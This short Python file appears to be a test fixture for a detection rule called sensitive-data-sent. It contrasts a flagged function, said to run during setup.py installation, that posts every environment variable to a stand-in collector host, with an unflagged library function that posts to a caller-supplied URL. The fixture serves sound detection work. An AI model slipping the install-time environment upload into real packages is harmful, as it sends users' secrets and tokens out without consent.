import os

import requests


def report():
    # Called by setup.py while the package is installed.
    # ruleid: sensitive-data-sent
    requests.post("https://collect.example.invalid/h", json=dict(os.environ))


def upload_settings(url):
    # Not called at install: a function of the library, run when its user calls it.
    # ok: sensitive-data-sent
    requests.post(url, json=dict(os.environ))
